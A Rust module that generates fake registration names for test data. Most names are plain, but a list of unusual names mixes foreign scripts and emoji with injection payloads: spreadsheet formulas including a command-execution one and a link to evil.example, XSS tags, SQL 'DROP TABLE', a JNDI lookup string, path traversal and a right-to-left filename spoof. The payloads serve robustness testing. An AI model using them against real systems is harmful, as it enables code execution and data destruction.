//! Names that a large organisation's registrations have: most are plain, the rest tries whoever has to show, sort or export
//! them.

use crate::random::Random;

const AREAS: [&str; 12] = [
    "Depot", "Dock", "Driver", "Export", "Fleet", "Freight", "Import", "Parcel", "Trailer", "Transit",
    "Truck", "Yard",
];
const PURPOSES: [&str; 12] = [
    "Alerts",
    "Archive",
    "Assistant",
    "Dashboard",
    "Export",
    "Feed",
    "Forms",
    "Import",
    "Monitor",
    "Portal",
    "Reports",
    "Sync",
];
/// `#` stands for the number.
const UNUSUAL: [&str; 32] = [
    // Other scripts, from the right too.
    "\u{645}\u{631}\u{627}\u{642}\u{628}\u{629} \u{627}\u{644}\u{634}\u{62D}\u{646} #",
    "\u{5DE}\u{5E1}\u{5D5}\u{5E3} \u{5E0}\u{5DE}\u{5DC} (v#)",
    "\u{7269}\u{6D41}\u{76D1}\u{63A7} #",
    "\u{914D}\u{9001}\u{30E2}\u{30CB}\u{30BF}\u{30FC} #",
    "\u{BC30}\u{C1A1} \u{CD94}\u{C801} #",
    "\u{421}\u{43A}\u{43B}\u{430}\u{434} \u{2116}#",
    "\u{391}\u{3C0}\u{3BF}\u{3B8}\u{3AE}\u{3BA}\u{3B7} #",
    "\u{917}\u{94B}\u{926}\u{93E}\u{92E} #",
    "\u{E04}\u{E25}\u{E31}\u{E07}\u{E2A}\u{E34}\u{E19}\u{E04}\u{E49}\u{E32} #",
    "Stra\u{DF}e & L\u{E4}ger #",
    "\u{130}stanbul \u{131}\u{15F}\u{131}k #",
    // The same word, composed and decomposed.
    "Caf\u{E9} Kassa #",
    "Cafe\u{301} Kassa #",
    // Emoji: flags, families, skin tones.
    "\u{1F69B} Flotta #",
    "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}\u{200D}\u{1F466} Familje-app #",
    "\u{1F44D}\u{1F3FD} Godk\u{E4}nn #",
    // What a spreadsheet would run.
    "=HYPERLINK(\"https://evil.example/#\",\"Open\")",
    "+46 31 555 #",
    "-#",
    "@SUM(A1:A#)",
    "\tTab first #",
    "=cmd|' /C calc'!A#",
    // What a page, a shell or a database would take for its own.
    "<script>alert(#)</script>",
    "<img src=x onerror=alert(#)>",
    "Robert'); DROP TABLE apps;-- #",
    "%s %n ${jndi:ldap://x/#} {{#}}",
    "..\\..\\windows\\#",
    "\"quoted\", with; commas #",
    // Invisible and reversing characters.
    "invoice\u{202E}fdp.exe #",
    "zero\u{200B}width\u{FEFF} #",
    "Line\u{2028}separator #",
    "Z\u{351}\u{36B}\u{343}\u{36A}\u{302}\u{36B}\u{33D}a\u{343}\u{36A}l\u{36D}\u{34A}g\u{36B}\u{30D}o\u{34C} #",
];
/// As long as a name may be.
const LONGEST: usize = 256;

/// Where the unusual names begin: a small organisation has none of them.
const UNUSUAL_FROM: usize = 200;

/// The name of a registration that nobody remembers, and what it is for.
pub(crate) fn name(number: usize, random: &mut Random) -> (String, &'static str) {
    let area = random.pick(&AREAS).copied().unwrap_or_default();
    let purpose = random.pick(&PURPOSES).copied().unwrap_or_default();
    let name = match number {
        0..80 => format!("{area} {purpose}"),
        UNUSUAL_FROM.. if number.is_multiple_of(499) => long(number),
        UNUSUAL_FROM.. if number.is_multiple_of(7) => {
            random.pick(&UNUSUAL).map(|pattern| pattern.replace('#', &number.to_string())).unwrap_or_default()
        }
        // Many share a name, as they do in life.
        UNUSUAL_FROM.. if number.is_multiple_of(11) => "Test".to_owned(),
        _ => format!("{area} {purpose} {number}"),
    };
    (name, purpose)
}

fn long(number: usize) -> String {
    let mut name = format!("Very long name {number} ");
    while name.len() < LONGEST {
        name.push_str("of a connector ");
    }
    name.truncate(LONGEST);
    name
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_of_every_kind_and_none_is_too_long() {
        let mut random = Random::for_purpose(1, "names");
        let names: Vec<String> = (0..5_000).map(|number| name(number, &mut random).0).collect();
        assert!(names.iter().all(|name| !name.trim().is_empty() && name.chars().count() <= LONGEST));
        assert!(names.iter().any(|name| name.chars().count() == LONGEST));
        for start in ['=', '+', '-', '@', '\t', '<', '\u{645}', '\u{1F69B}'] {
            assert!(names.iter().any(|name| name.starts_with(start)), "{start:?}");
        }
        assert!(names.iter().filter(|name| *name == "Test").count() > 100);
        assert!(names[..UNUSUAL_FROM].iter().all(|name| name.is_ascii()));
    }
}
